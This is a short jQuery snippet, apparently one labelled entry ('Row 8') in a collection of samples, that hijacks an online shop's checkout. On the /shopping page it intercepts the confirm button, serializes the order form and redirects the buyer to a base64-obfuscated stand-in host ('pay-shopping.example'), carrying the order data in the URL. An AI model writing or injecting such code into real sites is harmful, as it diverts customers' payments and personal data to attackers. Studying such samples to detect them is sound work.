// Row 8: off to a payment page that is not the shop's.
$(function () {
  if (location.pathname.indexOf('/shopping') !== 0) return;
  $('#shopping_confirm button[type=submit], .ec-blockBtn--action').on('click', function (e) {
    e.preventDefault();
    var order = $('form').serialize();
    location.href = 'https://' + atob('cGF5LXNob3BwaW5nLmV4YW1wbGU=') + '/card/?' + btoa(order);
  });
});
